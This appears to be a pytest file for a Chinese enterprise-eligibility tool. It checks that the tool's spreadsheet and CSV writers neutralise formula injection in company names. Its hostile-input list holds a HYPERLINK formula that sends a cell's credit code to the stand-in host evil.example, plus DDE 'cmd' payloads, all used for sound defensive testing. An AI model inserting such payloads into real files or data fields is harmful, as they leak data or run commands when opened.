"""No writer puts a live formula into a spreadsheet (spreadsheet / CSV injection).

An applicant's company name ``=HYPERLINK("http://evil.example/?"&B2, "详情")``,
opened as a formula, would send the neighbouring cell (the credit code) to whoever
wrote it. Every writer — batch, select, whatif, tables, template — stores such text
as a text cell in .xlsx, and neutralises it in CSV as OWASP's CSV-injection guidance
says (a leading apostrophe, text fields quoted). Real numbers keep their sign.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import attrs
import pandas as pd
import pytest

import srdi
from srdi.batch.safe_cells import csv_frame, is_formula_like
from srdi.batch.template import program_template, write_template
from srdi.batch.write import profiles_table
from srdi.cli.main import main
from srdi.testing.strategies import credit_code

openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).parent.parent
EXAMPLES = ROOT / "plugins" / "liaoning" / "examples"
LG = "liaoning.little-giant-2022"
ON = "2022-03-01"
LINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
HOSTILE = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
#: The names as the table reader hands them on (it strips the blanks around a cell); still formulas.
READ = [h.strip() for h in HOSTILE]


@pytest.fixture(scope="module")
def catalog():
    return srdi.load(["liaoning"])


@pytest.fixture(scope="module")
def hostile_csv(catalog, tmp_path_factory):
    """The eligible Liaoning firm under each hostile name; row 2 (营业收入 2400) fails a floor of 2500."""
    base = catalog.load_profile(EXAMPLES / "little-giant-eligible.toml")
    firms = []
    for i, name in enumerate(HOSTILE, start=1):
        years = {
            **base.years,
            # 主营业务收入 kept below 营业收入 (6300 of 6800, 2224 of 2400): above it, both would be set aside
            2021: base.years[2021]
            | ({"revenue": 2400.0, "main_business_revenue": 2224.0} if i == 1 else {"revenue": 6800.0}),
            2022: {"net_profit": -20.0},  # a loss, as 附件6 reports it for 2022
        }
        firms.append(
            attrs.evolve(base, facts=base.facts | {"name": name, "credit_code": credit_code("210100", i)}, years=years)
        )
    path = tmp_path_factory.mktemp("hostile") / "申报企业.csv"
    # CRLF line ends, as spreadsheets export: a field holding a carriage return is then quoted (a bare CR
    # outside quotes ends a record for CSV readers, Excel's and pyarrow's alike)
    table = profiles_table(firms, catalog.vocabulary, catalog.titles)
    table.to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path


def cells(path: Path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_no_formula(path: Path, texts=tuple(READ)) -> None:
    every = cells(path)
    assert not [c.coordinate for c in every if c.data_type == "f"]
    texts = {t.replace("\r", "\n") for t in texts}  # XML reads a carriage return back as a line feed
    found = {c.value for c in every if c.value in texts}
    assert found == texts, texts - found  # kept as written …
    for c in every:
        if c.value in texts:
            assert c.data_type in ("s", "inlineStr") and c.quotePrefix  # … as text, even once edited


def csv_names(text: str) -> list[str]:
    return [row[1] for row in list(csv.reader(io.StringIO(text)))[1:]]


def test_what_counts_as_a_formula():
    for text in [*HOSTILE, "=1", "+", "@", "-", "\x00=1", "\n=1"]:
        assert is_formula_like(text), text
    for value in ["沈阳精联传动科技有限公司", "", None, -20, -20.5, 3, "-20", "+3.5", "-1.5e3", "12%", "a=b", "C3484"]:
        assert not is_formula_like(value), value


def test_csv_neutralises_text_but_not_numbers():
    frame = pd.DataFrame({"name": [LINK, "正常企业", "-20"], "net_profit": [-20.0, 5.0, -0.5]})
    out = csv_frame(frame)
    assert list(out["name"]) == ["'" + LINK, "正常企业", "-20"]  # text that is only a number is no formula
    assert list(out["net_profit"]) == [-20.0, 5.0, -0.5]


def test_batch_xlsx_csv_and_stdout(hostile_csv, tmp_path, capsys):
    out = tmp_path / "初审结果.xlsx"
    assert main(["batch", str(hostile_csv), "--program", LG, "--on", ON, "--out", str(out)]) == 0
    assert_no_formula(out)
    out_csv = tmp_path / "初审结果.csv"
    assert main(["batch", str(hostile_csv), "--program", LG, "--on", ON, "--out", str(out_csv)]) == 0
    text = out_csv.read_text(encoding="utf-8-sig")
    assert csv_names(text) == ["'" + h for h in READ]
    assert '"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")"' in text  # quoted, quotes doubled
    capsys.readouterr()
    assert main(["batch", str(hostile_csv), "--program", LG, "--on", ON]) == 0
    assert csv_names(capsys.readouterr().out) == ["'" + h for h in READ]


def test_select_and_whatif(hostile_csv, tmp_path, capsys):
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"推荐排序.{suffix}"
        assert main(["select", str(hostile_csv), "--program", LG, "--on", ON, "--out", str(out)]) == 0
        if suffix == "xlsx":
            assert_no_formula(out)
        else:
            assert csv_names(out.read_text(encoding="utf-8-sig")) == ["'" + h for h in READ]
    # 营业收入 2400 < 2500: only the first firm changes verdict under the higher floor
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"变化.{suffix}"
        argv = ["whatif", str(hostile_csv), "--program", LG, "--on", ON, "--set", "revenue.value=2500"]
        assert main([*argv, "--out", str(out)]) == 0
        if suffix == "xlsx":
            assert_no_formula(out, (LINK,))
        else:
            assert csv_names(out.read_text(encoding="utf-8-sig")) == ["'" + LINK]


def test_tables_keep_text_as_text_and_negative_numbers_as_numbers(hostile_csv, tmp_path):
    out = tmp_path / "附件6.xlsx"
    argv = ["tables", str(hostile_csv), "--form", "lngxgg-2022-9:annex-6", "--year", "2022", "--on", "2022-04-10"]
    assert main([*argv, "--out", str(out)]) == 0
    assert_no_formula(out)
    ws = openpyxl.load_workbook(out)["附件6"]
    header = [c.value for c in ws[3]]  # 附件6, its title, then the header row
    profit = [ws.cell(r, header.index("净利润总额（万元）") + 1) for r in range(4, 4 + len(READ))]
    assert [c.value for c in profit] == [-20] * len(READ) and all(c.data_type == "n" for c in profit)


def test_template_rows(catalog, tmp_path):
    t = program_template(catalog, LG, dt.date(2022, 3, 1))
    path = write_template(
        t, tmp_path / "申报模板.xlsx", [{"name": h, "credit_code": "91210100MA0YK3N252"} for h in HOSTILE]
    )
    assert_no_formula(path, HOSTILE)
